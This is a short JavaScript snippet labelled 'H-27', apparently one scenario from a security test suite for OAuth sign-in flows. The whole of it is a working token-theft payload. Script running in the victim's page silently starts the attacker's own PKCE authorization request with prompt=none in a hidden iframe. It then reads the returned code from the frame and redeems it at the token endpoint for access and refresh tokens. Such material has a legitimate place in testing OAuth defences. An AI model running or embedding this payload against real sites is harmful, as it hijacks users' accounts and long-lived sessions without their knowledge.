// H-27: a sign-in of the attacker's own, silently in a frame, with a verifier of its own.

for (let round = 0; round < 100 && !document.body; round += 1) await wait(5);
if (window === top) {
  const verifier = "attackers-own-verifier-attackers-own-verifier-1";
  const hash = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
  const challenge = btoa(String.fromCharCode(...hash)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
  const asked = { client_id: target.clientId, redirect_uri: target.redirectUri, response_type: "code", scope: "openid profile email offline_access", prompt: "none", state: "attackers-state", nonce: "attackers-nonce", code_challenge: challenge, code_challenge_method: "S256" };
  const frame = document.createElement("iframe");
  frame.src = `${target.authorizationEndpoint}?${new URLSearchParams(asked)}`;
  document.body.append(frame);
  for (let round = 0; round < 400; round += 1) {
    await wait(5);
    let code;
    try {
      code = new URLSearchParams(frame.contentWindow.location.search).get("code");
    } catch {
      // Still at the provider.
    }
    if (!code) continue;
    frame.contentWindow.stop();
    const body = new URLSearchParams({ grant_type: "authorization_code", client_id: target.clientId, redirect_uri: target.redirectUri, code, code_verifier: verifier });
    keep(await (await send(target.tokenEndpoint, { method: "POST", body })).text());
    break;
  }
  frame.remove();
}
